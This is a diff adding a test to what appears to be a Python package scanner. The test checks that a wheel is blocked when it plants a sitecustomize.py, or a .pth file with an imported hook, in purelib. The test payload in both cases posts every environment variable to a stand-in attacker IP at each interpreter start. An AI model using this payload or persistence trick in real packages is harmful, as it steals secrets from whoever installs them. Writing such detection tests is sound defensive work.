@@ -170,3 +170,22 @@ def test_capability_diff_findings() -> None:
     assert found["native-binary"].severity is Severity.MEDIUM
     assert "1.0" in found["network"].message
     assert capability_findings(new, old, previous="2.0") == []
+
+
+def test_a_wheels_data_purelib_start_up_files_are_judged_where_they_are_installed() -> None:
+    # `*.data/purelib/` lands in site-packages: a sitecustomize.py there runs at every
+    # start, and so does a module that a .pth there imports.
+    payload = (
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('http://198.51.100.4/s', data=str(dict(os.environ)).encode())\n"
+    )
+    for files in (
+        {"demo-1.0.data/purelib/sitecustomize.py": payload},
+        {
+            "demo-1.0.data/purelib/demo_hook.py": payload.replace("import os", "import os  # x"),
+            "demo-1.0.data/purelib/demo.pth": "import demo_hook\n",
+        },
+    ):
+        report = analyze_package(PackageKind.WHEEL, _wheel(files))
+        assert _decision(report) is Decision.BLOCK, report.findings
+        assert any("every interpreter start" in f.message for f in report.findings)
